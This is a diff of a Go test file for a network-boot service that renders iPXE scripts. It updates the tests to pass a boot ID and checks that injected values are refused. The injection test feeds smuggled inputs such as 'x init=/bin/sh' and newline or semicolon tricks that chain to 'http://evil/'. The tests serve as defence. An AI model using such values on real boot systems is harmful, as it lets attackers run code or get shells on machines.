@@ -70,18 +70,18 @@ func TestRenderBootVariants(t *testing.T) {
 
 	m := machine("node1", nil, "52:54:00:aa:bb:01", api.ArchX86_64, "")
 	m.Spec.Approved = true
-	plan, err := RenderBoot(m, p, NewValues(m, p, nil, srv))
+	plan, err := RenderBoot(m, p, NewValues(m, p, nil, srv, "b1"))
 	if err != nil {
 		t.Fatal(err)
 	}
 	if plan.Action != ActionBoot || plan.Profile != "debian" || plan.Kernel != "http://mirror/amd64/linux" ||
 		strings.Join(plan.Initrds, " ") != "http://mirror/amd64/initrd.gz http://mirror/firmware.cpio.gz" ||
-		plan.Args != "auto=true url=http://10.0.0.2:8080/machines/node1/files/preseed.cfg hostname=node1 BOOTIF=01-52:54:00:aa:bb:01 console=ttyS0" {
+		plan.Args != "auto=true url=http://10.0.0.2:8080/machines/node1/boots/b1/files/preseed.cfg hostname=node1 BOOTIF=01-52:54:00:aa:bb:01 console=ttyS0" {
 		t.Errorf("x86_64 plan %+v", plan)
 	}
 	want := `#!ipxe
 echo Hearth: machine node1: installing profile debian
-kernel http://mirror/amd64/linux initrd=initrd0 initrd=initrd1 auto=true url=http://10.0.0.2:8080/machines/node1/files/preseed.cfg hostname=node1 BOOTIF=01-52:54:00:aa:bb:01 console=ttyS0
+kernel http://mirror/amd64/linux initrd=initrd0 initrd=initrd1 auto=true url=http://10.0.0.2:8080/machines/node1/boots/b1/files/preseed.cfg hostname=node1 BOOTIF=01-52:54:00:aa:bb:01 console=ttyS0
 initrd --name initrd0 http://mirror/amd64/initrd.gz
 initrd --name initrd1 http://mirror/firmware.cpio.gz
 boot
@@ -92,7 +92,7 @@ boot
 
 	arm := machine("pi1", nil, "dc:a6:32:00:00:01", "aarch64", "")
 	arm.Spec.Approved = true
-	plan, err = RenderBoot(arm, p, NewValues(arm, p, nil, srv))
+	plan, err = RenderBoot(arm, p, NewValues(arm, p, nil, srv, "b1"))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -106,7 +106,7 @@ boot
 	p.Spec.ProfileBoot = api.ProfileBoot{}
 	for _, arch := range []string{api.ArchX86_64, ""} {
 		m.Spec.Architecture = arch
-		if _, err := RenderBoot(m, p, NewValues(m, p, nil, srv)); err == nil {
+		if _, err := RenderBoot(m, p, NewValues(m, p, nil, srv, "b1")); err == nil {
 			t.Errorf("arch %q: booted a profile with only an arm64 variant", arch)
 		}
 	}
@@ -117,7 +117,7 @@ func TestRenderBootRefusesInjection(t *testing.T) {
 	m := machine("node1", nil, "52:54:00:aa:bb:01", api.ArchX86_64, "")
 	m.Spec.Approved = true
 	m.Spec.Hostname = "x init=/bin/sh"
-	_, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{}))
+	_, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{}, "b1"))
 	var unsafe *UnsafeValueError
 	if !errors.As(err, &unsafe) || unsafe.Where != "spec.args:1:54" || !strings.Contains(err.Error(), "profile debian, machine node1: spec.args:1:54: {{.Hostname}} printed") {
 		t.Errorf("got %v, want the hostname refused in spec.args", err)
@@ -126,7 +126,7 @@ func TestRenderBootRefusesInjection(t *testing.T) {
 	arm := machine("pi1", nil, "dc:a6:32:00:00:01", api.ArchARM64, "")
 	arm.Spec.Approved = true
 	arm.Spec.Hostname = "pi1\nchain http://evil/"
-	_, err = RenderBoot(arm, p, NewValues(arm, p, nil, ServerValues{}))
+	_, err = RenderBoot(arm, p, NewValues(arm, p, nil, ServerValues{}, "b1"))
 	if !errors.As(err, &unsafe) || !strings.HasPrefix(unsafe.Where, "spec.variants.arm64.ipxeScript:1:") {
 		t.Errorf("got %v, want the hostname refused in the arm64 script", err)
 	}
@@ -134,12 +134,12 @@ func TestRenderBootRefusesInjection(t *testing.T) {
 	p = multiArch()
 	p.Spec.Args = "console=ttyS0\nchain http://evil/"
 	m.Spec.Hostname = ""
-	if _, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{})); err == nil || !strings.Contains(err.Error(), "spec.args renders to") {
+	if _, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{}, "b1")); err == nil || !strings.Contains(err.Error(), "spec.args renders to") {
 		t.Errorf("multi-line args: got %v", err)
 	}
 	p = multiArch()
 	p.Spec.Kernel.URL = "http://mirror/linux ; chain http://evil/"
-	if _, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{})); err == nil || !strings.Contains(err.Error(), "spec.kernel.url") {
+	if _, err := RenderBoot(m, p, NewValues(m, p, nil, ServerValues{}, "b1")); err == nil || !strings.Contains(err.Error(), "spec.kernel.url") {
 		t.Errorf("unsafe kernel URL: got %v", err)
 	}
 }
@@ -170,12 +170,12 @@ echo Hearth: machine node1 is installed (profile debian): booting from its local
 iseq ${platform} efi || sanboot --no-describe --drive 0x80 ||
 exit
 `},
-		{"profile script gets #!ipxe", func(m *api.Machine) { m.Spec.Approved = true }, script, "#!ipxe\nchain http://10.0.0.2:8080/machines/node1/files/menu.ipxe\n"},
+		{"profile script gets #!ipxe", func(m *api.Machine) { m.Spec.Approved = true }, script, "#!ipxe\nchain http://10.0.0.2:8080/machines/node1/boots/b1/files/menu.ipxe\n"},
 	}
 	for _, tt := range tests {
 		mm := *m
 		tt.setup(&mm)
-		plan, err := RenderBoot(&mm, tt.profile, NewValues(&mm, tt.profile, nil, srv))
+		plan, err := RenderBoot(&mm, tt.profile, NewValues(&mm, tt.profile, nil, srv, "b1"))
 		if err != nil {
 			t.Fatalf("%s: %v", tt.name, err)
 		}
@@ -186,8 +186,15 @@ exit
 
 	// No profile: the Match error is the message.
 	_, err := Match(m, nil)
-	plan := WaitPlan(m, err.Error(), NewValues(m, nil, nil, srv))
+	plan := WaitPlan(m, err.Error(), NewValues(m, nil, nil, srv, "b1"))
 	if got := IPXEScript(plan); !strings.Contains(got, "\necho Hearth: machine node1 matches no profile: give it labels") || !strings.Contains(got, "chain --replace --autofree http://10.0.0.2:8080/machines/node1/boot.ipxe || goto retry\n") {
 		t.Errorf("no-profile script:\n%s", got)
+	}
+
+	// A machine the boot service did not recognise runs DHCP again
+	// before it asks.
+	plan.Renew = true
+	if got, want := IPXEScript(plan), "sleep 10\ndhcp ||\nchain --replace --autofree http://10.0.0.2:8080/machines/node1/boot.ipxe || goto retry\n"; !strings.HasSuffix(got, want) {
+		t.Errorf("renewing wait script:\n%s\nwant it to end with\n%s", got, want)
 	}
 }
